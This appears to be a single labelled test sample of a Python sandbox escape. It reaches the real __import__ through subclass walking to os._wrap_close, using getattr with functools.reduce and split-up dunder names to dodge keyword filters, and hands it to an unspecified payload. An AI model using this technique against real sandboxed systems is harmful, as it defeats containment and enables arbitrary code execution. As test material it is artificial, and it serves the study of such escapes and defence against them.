# kind: capability
# getattr applied by map and functools.reduce, names computed.
import functools
sub = functools.reduce(getattr, ["__cla" + "ss__", "__ba" + "se__", "__subcl" + "asses__"], ())()
for c in sub:
    if str(c) == "<class 'os._wrap_close'>":
        g = list(map(getattr, [functools.reduce(getattr, ["__in" + "it__"], c)], ["__glo" + "bals__"]))[0]
        payload(g["__builtins__"]["__import__"])
